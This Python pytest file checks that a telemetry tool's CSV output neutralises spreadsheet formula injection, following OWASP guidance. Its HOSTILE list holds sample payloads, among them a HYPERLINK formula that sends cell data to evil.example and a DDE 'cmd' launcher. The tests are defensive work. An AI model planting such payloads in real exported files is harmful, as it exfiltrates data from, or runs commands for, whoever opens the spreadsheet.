"""CSV formula injection: every text cell the analysis writes goes through one sanitiser (OWASP)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from typer.testing import CliRunner

from mltelemetry import schema
from mltelemetry.cli import app
from mltelemetry.safety import csv_cell, write_csv
from mltelemetry.schema import Event, Sample
from mltelemetry.store import Store

S = 1_000_000_000
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB",
           "\rCR"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_a_quote(text):
    assert csv_cell(text) == "'" + text.replace("\r", "\n")  # a bare CR would break the CSV row


@pytest.mark.parametrize("value", ["cpu", "a=b", "", "-1.5", "+2", "1e-3", -1.5, 3, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert csv_cell(value) == value


def test_numbers_stay_numbers_in_a_frame():
    frame = pd.DataFrame({"scenario": ["=1+1", "ok"], "energy_wh": [-0.5, 1.25], "=col": [1, 2]})
    rows = list(csv.reader(io.StringIO(write_csv(frame))))
    assert rows == [["scenario", "energy_wh", "'=col"], ["'=1+1", "-0.5", "1"], ["ok", "1.25", "2"]]


def hostile_store(path) -> None:
    """100 W for 0..60 s on a 1 Hz counter; one baseline run and one run of each hostile scenario name."""
    samples = [Sample(schema.PM_ENERGY, {"host": "sut", "meter": "m"}, 100.0 * t, t * S) for t in range(61)]
    events = [Event("c", "baseline", 1, "run", 1 * S, 5 * S)]
    events += [Event("c", name, 1, "run", (6 + 8 * k) * S, (10 + 8 * k) * S) for k, name in enumerate(HOSTILE)]
    events += [Event("c", HOSTILE[0], 1, "@action", 6 * S, 8 * S)]
    with Store(path) as store:
        store.write(samples)
        store.write_events(events)


def test_analyze_csv_and_the_report_data_files_neutralise_hostile_names(tmp_path):
    # main: the names were written unchanged, so a spreadsheet opening the file ran them as formulas
    hostile_store(tmp_path / "s.db")
    result = CliRunner().invoke(app, ["analyze", "--campaign", "c", "--source", str(tmp_path / "s.db"),
                                      "--format", "csv", "--report", str(tmp_path / "report")])
    assert result.exit_code == 0, result.output
    files = {"stdout": result.stdout}
    for path in (tmp_path / "report" / "data").glob("*.csv"):
        with open(path, newline="") as f:  # as a spreadsheet reads it: no newline translation
            files[path.name] = f.read()
    assert {"stdout", "windows.csv", "summary.csv"} <= set(files)
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), (name, cell)
                assert not cell.startswith("-") or float(cell) < 0, (name, cell)  # only negative numbers
    windows = pd.read_csv(io.StringIO(files["windows.csv"]))
    runs = windows[windows.action == "run"].set_index("scenario")
    assert set(runs.index) == {"baseline", *("'" + h.replace("\r", "\n") for h in HOSTILE)}
    # a 4 s run at 100 W: 400 J = 400 / 3600 Wh = 0.1111 Wh, still a number
    assert runs.loc["'@SUM(1+1)", "energy_wh"] == pytest.approx(400 / 3600)
    assert "'@action" in set(windows.action)
